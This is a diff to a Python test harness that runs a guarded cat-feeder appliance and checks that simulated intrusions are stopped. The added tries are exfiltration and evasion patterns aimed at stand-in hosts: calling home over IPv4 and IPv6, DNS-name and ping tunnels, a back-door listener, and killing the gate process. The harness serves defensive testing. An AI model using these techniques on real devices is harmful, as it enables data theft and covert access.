@@ -1,9 +1,10 @@
 #!/usr/bin/python3
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""attack.py RTGUARD BIN PROFILE: boots the cat feeder under `rtguard enforce PROFILE` and lets an intruder in through
-the hole in its service. Prints each try and its answer as a table. Exit code 0 when every one was stopped and the
-feeder goes on feeding."""
-import ctypes
+"""attack.py RTGUARD BIN PROFILE [OPTION…]: boots the cat feeder under `rtguard enforce PROFILE OPTION…` and lets an
+intruder in through the hole in its service. Prints each try and its answer as a table: what he did on the device by the
+trace that it left there, what he sent by what arrived in the world. Exit code 0 when every one was stopped and the feeder
+goes on feeding."""
+import contextlib
 import json
 import os
 import pathlib
@@ -14,28 +15,39 @@ import sys
 import tempfile
 import time
 
+sys.dont_write_bytecode = True
+import outside  # noqa: E402
+from outside import TCP, UDP, is_to  # noqa: E402
+
 HERE = pathlib.Path(__file__).resolve().parent
 RUN = "/opt/feeder/run"  # where the intruder can write
 FEEDER_PORT = 8080
-CLONE_NEWNET = 0x40000000
+BACK_DOOR = 2323
+STRANGER, STRANGER6 = "198.51.100.66", "2001:db8:66::66"
+TIME = "203.0.113.20"
+# what the feeder does over the network by itself, in any few seconds
+FEEDING = {
+    "reports": ("203.0.113.10", TCP, 80), "reports over IPv6": ("2001:db8:77::10", TCP, 80), "asks the time": (TIME, UDP, 123),
+    "tells of portions": ("203.0.113.30", TCP, 8883),
+}
 
 
 class Feeder:
     """The appliance, enforced, seen from outside, and its hole."""
 
-    def __init__(self, rtguard, programs, profile, work):
+    def __init__(self, rtguard, programs, profile, work, *options):
         self.rtguard = rtguard
         self.control = work / "control"
         self.log = open(work / "log", "w+", encoding="utf-8")
         self.appliance = subprocess.Popen(
             [HERE / "appliance", "--bin", programs, rtguard, "enforce", profile, "--yes", "--allow-unsigned",
-             "--control", self.control, "--state", work / "state"],
+             "--control", self.control, "--state", work / "state", *options],
             stdin=subprocess.DEVNULL, stdout=self.log, stderr=self.log)
         self.wait_for(lambda: self.ask("status", 0, 1))
         self.pid = next(self.processes("rtguard"))
-        with open(f"/proc/{self.pid}/ns/net", encoding="ascii") as network:
-            if ctypes.CDLL(None, use_errno=True).setns(network.fileno(), CLONE_NEWNET) < 0:
-                raise OSError(ctypes.get_errno(), "setns")
+        network = outside.network_of(self.pid)
+        self.world = outside.Outside(self.appliance.pid, network)
+        outside.enter_network(network)
         self.wait_for(lambda: self.tell(""))
 
     def wait_for(self, condition):
@@ -103,7 +115,7 @@ class Feeder:
         self.log.close()
 
 
-def tries(feeder, programs):
+def tries_on_device(feeder, programs):
     """Each: what is tried, and how; trace is what the intruder would leave behind."""
     intruder = (programs / "intruder").read_bytes()
     portion = (programs / "portion").read_bytes()
@@ -135,41 +147,116 @@ def tries(feeder, programs):
     yield "kills the guard and tries again at once", guard_killed
 
 
+def tries_over_network(feeder):
+    """Each: what is tried, how, and which packet shows in the world that it got through; how may say so itself."""
+    def tell(transport, host, port):
+        return lambda: feeder.run(f"PORTION_LOG={transport},{host},{port}", "/opt/feeder/bin/portion")
+
+    def called_from_outside():
+        with outside.listen(BACK_DOOR):
+            return feeder.world.call(BACK_DOOR)
+
+    def gate_killed():
+        for gate in list(feeder.processes("rtguard-gate")):
+            os.kill(gate, signal.SIGKILL)
+        tell("tcp", STRANGER, 443)()
+
+    def ping():
+        with contextlib.suppress(PermissionError):  # what the packet filter says to raw sockets
+            outside.send_echo(STRANGER, b"carried out")
+
+    def to(*place):
+        return lambda packet: is_to(packet, *place)
+
+    yield "calls home", tell("tcp", STRANGER, 443), to(STRANGER)
+    yield "calls home over IPv6", tell("tcp", STRANGER6, 443), to(STRANGER6)
+    yield "uses another port of a known server", tell("udp", TIME, 4500), to(TIME, UDP, 4500)
+    yield "uses another program's connection", tell("udp", TIME, 123), \
+        lambda packet: is_to(packet, TIME, UDP, 123) and b"portion" in packet
+    yield "carries data out in names", tell("tcp", "c2VjcmV0.tunnel.example", 443), lambda packet: b"\x06tunnel" in packet
+    yield "asks a resolver of his own", tell("udp", STRANGER, 53), to(STRANGER)
+    yield "carries data out in pings", ping, to(STRANGER)
+    yield "opens a back door to the network", called_from_outside, None
+    yield "kills the gate and calls home at once", gate_killed, to(STRANGER)
+
+
 def answer_of(finding):
     if not finding:
         return "stopped"
     if finding["action"] == "killed":
         since = finding.get("since_exec_us")
         return f"killed {since / 1000:.1f} ms after it began" if since else "killed before it began"
+    if finding["layer"] in ("rules", "gate"):
+        return {"dropped": "did not arrive", "refused": "answered: no such name"}.get(finding["action"], finding["action"])
     return "refused before it ran"
+
+
+class Table:
+    """Tries and their answers, as they come."""
+    ROW = "{:<42} {:<30} {}"
+
+    def __init__(self, feeder):
+        self.feeder = feeder
+        self.got_through = 0
+        print(self.ROW.format("AN INTRUDER…", "ANSWER", "FINDING"))
+
+    def take(self, what, how, patience):
+        """how: does it and returns whether it got through; patience: seconds until its finding is there."""
+        known = {finding["id"] for finding in self.feeder.findings()}
+        got_through = how()
+        end = time.monotonic() + patience
+        while not (new := [event for event in self.feeder.findings() if event["id"] not in known]) and time.monotonic() < end:
+            time.sleep(0.05)
+        self.got_through += got_through
+        finding = new[0] if new else None
+        self.say(what, "GOT THROUGH" if got_through else answer_of(finding),
+                 finding["kind"] if finding else "(counted with the one before)")
+
+    def say(self, *words):
+        print(self.ROW.format(*words), flush=True)
+
+
+def feeding(feeder):
+    """What it does no more; each is waited for."""
+    missing = [] if feeder.run("/opt/feeder/bin/portion") == "exit 0" else ["portions"]
+    wanted = dict(FEEDING)
+    end = time.monotonic() + 10
+    while wanted and time.monotonic() < end:
+        for packet in feeder.world.arrivals(0.2):
+            wanted = {what: place for what, place in wanted.items() if not is_to(packet, *place)}
+    if not feeder.world.call(FEEDER_PORT):
+        missing.append("answers the app")
+    return missing + list(wanted)
 
 
 def main():
     rtguard, programs, profile = sys.argv[1], pathlib.Path(sys.argv[2]), sys.argv[3]
-    row = "{:<42} {:<30} {}"
-    passed = 0
     with tempfile.TemporaryDirectory(prefix="rtguard-attack.") as directory:
-        feeder = Feeder(rtguard, programs, profile, pathlib.Path(directory))
+        feeder = Feeder(rtguard, programs, profile, pathlib.Path(directory), *sys.argv[4:])
         try:
             before = feeder.findings()
-            print(row.format("AN INTRUDER…", "ANSWER", "FINDING"))
-            for number, (what, how) in enumerate(tries(feeder, programs)):
-                known = {finding["id"] for finding in feeder.findings()}
+            table = Table(feeder)
+            for number, (what, how) in enumerate(tries_on_device(feeder, programs)):
                 trace = f"{RUN}/trace-{number}"
-                how(trace)
-                time.sleep(0.1)
-                finding = next((event for event in feeder.findings() if event["id"] not in known), None)
-                got_through = feeder.inside(trace).exists()
-                passed += got_through
-                print(row.format(what, "GOT THROUGH" if got_through else answer_of(finding),
-                                 finding["kind"] if finding else "(counted with the one before)"), flush=True)
-            feeds = feeder.run("/opt/feeder/bin/portion") == "exit 0"
-            print(row.format("and the feeder…", "goes on feeding" if feeds else "FEEDS NO MORE", ""))
+
+                def on_device(how=how, trace=trace):
+                    how(trace)
+                    time.sleep(0.1)
+                    return feeder.inside(trace).exists()
+                table.take(what, on_device, 0)
+            for what, how, shows in tries_over_network(feeder):
+                def over_network(how=how, shows=shows):
+                    feeder.world.arrivals()
+                    arrived = how()
+                    return any(map(shows, feeder.world.arrivals(0.2))) if shows else arrived
+                table.take(what, over_network, 1)
+            missing = feeding(feeder)
+            table.say("and the feeder…", "goes on feeding" if not missing else "FEEDS NO MORE: " + ", ".join(missing), "")
             if before:
                 print(f"before anybody broke in there were {len(before)} findings: {before}")
         finally:
             feeder.end()
-    sys.exit(1 if passed or before or not feeds else 0)
+    sys.exit(1 if table.got_through or before or missing else 0)
 
 
 if __name__ == "__main__":
